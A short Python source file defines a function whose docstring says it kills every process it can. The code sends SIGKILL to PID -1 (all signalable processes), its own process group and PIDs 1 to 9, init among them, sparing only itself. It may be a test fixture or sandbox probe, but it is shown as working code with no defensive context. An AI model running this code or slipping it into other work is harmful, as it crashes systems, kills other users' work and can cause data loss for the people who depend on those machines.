"""Kills all processes that it may, its own group and the first ten."""

import os
import signal
from typing import Any


def f(_: dict[str, Any]) -> str:
    for pid in (-1, 0, -os.getpgrp(), *range(1, 10)):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
    return ""
